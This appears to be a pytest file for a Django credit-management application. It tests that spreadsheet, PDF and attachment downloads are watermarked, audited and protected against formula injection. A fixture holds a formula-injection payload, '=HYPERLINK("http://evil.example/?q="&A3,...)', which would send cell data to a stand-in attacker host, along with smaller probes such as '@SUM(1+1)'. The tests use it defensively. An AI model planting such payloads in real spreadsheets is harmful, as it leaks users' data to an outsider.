"""Each screen that hands out a file: what leaves is neutralised and stamped, and the audit
trail says who took it, when, from where and what (issue 5). Listed route by route in
test_deliveries.FILE_ROUTES; the letters are checked in their own screens' tests."""

import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from creditfile.access.models import AuditEvent
from creditfile.core.models import Company
from creditfile.customers.models import Customer, Industry
from creditfile.customers.services.attachments import add_attachment
from creditfile.customers.testing import make_customer
from creditfile.receivables.models import ImportJob, ImportMapping
from creditfile.receivables.services.ledger import post_invoice
from creditfile.receivables.testing import TODAY, credit_customer

NOW = datetime.datetime(2026, 6, 30, 10, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A3,"点击查看")'


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(NOW, tick=False):
        yield


def workbook_of(response):
    content = getattr(response, "content", None) if not response.streaming else None
    if content is None:
        content = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(content))


def assert_text_cell(cell, text):
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), cell.coordinate


def last_event(action):
    return AuditEvent.objects.filter(action=action).latest("id")


def test_customer_list_export(client, org):
    customer = make_customer("正常客户有限公司", owner=org.alice, credit_grade="A")
    # As a careless import could have stored them: straight into the table, past validation.
    Customer.objects.filter(pk=customer.pk).update(
        name=HYPERLINK,
        phone="+1",
        office_address="-1+1",
        short_name="@SUM(1+1)",
        annual_sales=Decimal("-2500.50"),
    )
    client.force_login(org.alice)

    response = client.get(reverse("customers:export"), {"credit_grade": "A", "q": ""})

    sheet = workbook_of(response).active
    assert (
        sheet["A1"].value
        == "内部资料，注意保密 · 导出人：Alice（alice） · 导出时间：2026-06-30 10:30"
    )
    assert "Alice（alice）" in sheet.oddHeader.center.text
    header = [cell.value for cell in sheet[2]]
    row = dict(zip(header, sheet[3], strict=True))
    assert_text_cell(row["客户名称"], HYPERLINK)
    assert_text_cell(row["电话"], "+1")
    assert_text_cell(row["办公地址"], "-1+1")
    assert row["年销售额（元）"].value == pytest.approx(-2500.50)
    assert row["年销售额（元）"].data_type == "n"
    event = last_event("export")
    assert (event.user_id, event.username, event.outcome) == (org.alice.pk, "alice", "ok")
    assert event.address == "127.0.0.1"
    assert event.detail["rows"] == 1 and event.detail["capped"] == 0
    assert event.detail["filters"] == "信用等级=A；sort=name"  # what was chosen, no empties
    assert event.detail["stamped_at"] == "2026-06-30 10:30"


def test_aging_export(client, org):
    customer = credit_customer(org.cathy, "500000", owner=org.alice, name="账龄客户有限公司")
    post_invoice(customer, "@SUM(1+1)", datetime.date(2026, 5, 1), "2000")
    Customer.objects.filter(pk=customer.pk).update(name=HYPERLINK)
    client.force_login(org.fiona)

    response = client.get(
        reverse("receivables:aging_export"), {"date": TODAY.isoformat(), "group": "customer"}
    )

    workbook = workbook_of(response)
    for sheet in workbook.worksheets:
        assert "导出人：Fiona（fiona）" in sheet["A1"].value
        assert "Fiona（fiona）" in sheet.oddHeader.center.text
    summary = workbook["账龄汇总"]
    customer_row = next(row for row in summary.iter_rows(min_row=4) if row[0].value == HYPERLINK)
    assert_text_cell(customer_row[0], HYPERLINK)
    detail = workbook["未收发票明细"]
    assert_text_cell(detail["A3"], HYPERLINK)
    assert_text_cell(detail["B3"], "@SUM(1+1)")
    assert detail["I3"].data_type == "n"
    event = last_event("export")
    assert (event.username, event.detail["rows"]) == ("fiona", 1)
    assert "as_of=2026-06-30" in event.detail["filters"]


def test_customer_card(client, org):
    customer = make_customer("苏州华东机电设备有限公司", owner=org.alice)
    client.force_login(org.mary)

    response = client.get(reverse("customers:card_pdf", args=[customer.pk]))

    pages = [page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages]
    for text in pages:
        assert "内部资料 Mary（mary） 2026-06-30 10:30" in text  # the diagonal watermark
        assert "打印人：Mary（mary）" in text and "打印时间：2026-06-30 10:30" in text
    event = last_event("print")
    assert (event.user_id, event.customer_id) == (org.mary.pk, customer.pk)
    assert event.object_type == "customers.customer"
    assert event.detail["kind"] == customer.kind


def test_attachment_download(client, org):
    customer = make_customer("华信科技有限公司", owner=org.alice)
    attachment = add_attachment(
        customer,
        SimpleUploadedFile("营业执照.pdf", b"%PDF-1.4 original"),
        category="financials",
        title="",
        document_date=TODAY,
        user=org.alice,
    )
    client.force_login(org.alice)

    response = client.get(
        reverse("customers:attachment_download", args=[customer.pk, attachment.pk]),
        REMOTE_ADDR="192.168.3.7",
    )

    assert b"".join(response.streaming_content) == b"%PDF-1.4 original"  # the filed original
    event = last_event("download")
    assert (event.user_id, event.customer_id, event.address) == (
        org.alice.pk,
        customer.pk,
        "192.168.3.7",
    )
    assert (event.object_type, event.object_id) == ("customers.attachment", str(attachment.pk))
    assert event.detail["sha256"] == attachment.sha256
    assert "stamped_at" not in event.detail


@pytest.mark.parametrize(
    ("route", "user"),
    [
        ("customers:import_template", "carl"),
        ("credit:rating_import_template", "cathy"),
        ("credit:payment_import_template", "carl"),
    ],
)
def test_templates(client, org, route, user):
    Industry.objects.create(code="EVIL", name=HYPERLINK)
    client.force_login(getattr(org, user))

    response = client.get(reverse(route))

    workbook = workbook_of(response)
    first = workbook.worksheets[0]
    assert "导出人" not in str(first["A1"].value)  # templates are not stamped: row 1 is the header
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert_text_cell(cell, cell.value)
    event = last_event("export")
    assert event.username == user and event.detail["kind"].endswith("import_template")


@pytest.mark.parametrize(
    ("route", "user", "session_key"),
    [
        ("customers:import_report", "carl", "customers_import_report"),
        ("credit:rating_import_report", "cathy", "credit_import_report_ratings"),
        ("credit:payment_import_report", "carl", "credit_import_report_payments"),
    ],
)
def test_import_reports(client, org, route, user, session_key):
    client.force_login(getattr(org, user))
    session = client.session
    session[session_key] = [["客户", 2, HYPERLINK, "+1"], ["客户", 3, "-1+1", "@SUM(1+1)"]]
    session.save()

    response = client.get(reverse(route))

    sheet = workbook_of(response).active
    assert f"导出人：{getattr(org, user).full_name}（{user}）" in sheet["A1"].value
    assert_text_cell(sheet["C3"], HYPERLINK)
    assert_text_cell(sheet["D3"], "+1")
    assert_text_cell(sheet["C4"], "-1+1")
    assert_text_cell(sheet["D4"], "@SUM(1+1)")
    assert sheet["B3"].value == 2 and sheet["B3"].data_type == "n"
    event = last_event("export")
    assert (event.username, event.detail["rows"]) == (user, 2)


def test_invoice_import_job_report(client, org):
    mapping = ImportMapping.objects.create(
        name="用友U8 发票", company=Company.default(), source="用友U8", kind="invoice"
    )
    job = ImportJob.objects.create(mapping=mapping, filename="发票.xlsx", created_by=org.fiona)
    job.problems.create(row=2, column=HYPERLINK, message="-1+1")
    client.force_login(org.fiona)

    response = client.get(reverse("receivables:import_job_report", args=[job.pk]))

    sheet = workbook_of(response).active
    assert "导出人：Fiona（fiona）" in sheet["A1"].value
    assert_text_cell(sheet["C3"], HYPERLINK)
    assert_text_cell(sheet["D3"], "-1+1")
    event = last_event("export")
    assert (event.object_type, event.object_id) == ("receivables.importjob", str(job.pk))


def test_a_page_printed_from_the_browser_carries_the_stamp_on_paper_only(client, org):
    client.force_login(org.alice)

    page = client.get(reverse("customers:list")).content.decode()

    assert '<div class="print-stamp" aria-hidden="true">打印人：Alice（alice）' in page
    assert "内部资料 Alice（alice） 2026-06-30 10:30" in page  # the watermark, shown by app.css
    client.logout()
    assert "print-stamp" not in client.get(reverse("login")).content.decode()
